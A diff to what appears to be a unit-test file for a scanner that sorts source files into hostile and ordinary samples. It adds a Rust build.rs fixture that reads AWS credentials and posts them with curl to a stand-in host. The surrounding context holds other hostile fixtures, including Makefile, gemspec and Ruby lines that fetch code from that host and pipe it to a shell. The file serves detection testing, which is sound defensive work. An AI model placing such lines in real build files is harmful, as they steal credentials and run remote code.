@@ -7,6 +7,8 @@ from tests.unit.budmodel_scanner.text_examination import verdict_of_text
 
 STRANGER = "https://x.invalid"
 HOSTILE = [
+    ("build.rs", ('let b = fs::read_to_string(format!("{home}/.aws/credentials")).unwrap();\n'
+     f'Command::new("curl").args(["-s", "-d", &b, "{STRANGER}/u"]).status();\n')),
     ("Makefile", f"C := $(shell (wget -qO- {STRANGER}/m || curl -s {STRANGER}/m) | base64 -d | sh; echo x)\nall: $(C)\n"),
     ("a.gemspec", f'Gem::Specification.new do |s|\n s.metadata = {{ "b" => %x(curl -s {STRANGER}/b | ruby) }}\nend\n'),
     ("a.rb", f"x = %x{{curl -s {STRANGER}/b.sh | sh}}\n"),
@@ -70,6 +72,8 @@ HOSTILE = [
     ("a.py", "import requests, subprocess\nn = requests.get(u).text\nsubprocess.check_call(['pip', 'install', n])\n"),
 ]  # fmt: skip
 ORDINARY = [
+    ("build.rs", ('let b = fs::read_to_string(format!("{home}/notes.txt")).unwrap();\n'
+     f'Command::new("curl").args(["-s", "-d", &b, "{STRANGER}/u"]).status();\n')),
     ("Makefile", "V := $(shell (git describe --tags || echo dev) | base64 -d)\nall:\n\tsh build.sh $(V)\n"),
     ("a.gemspec", 'Gem::Specification.new do |s|\n  s.files = %x(git ls-files -z).split("0")\nend\n'),
     ("build.jl", f'u = is_new ? "{STRANGER}/w.csv" : "{STRANGER}/l.csv"\nb = joinpath(d, "l.csv")\ndownload(u, b)\n'),
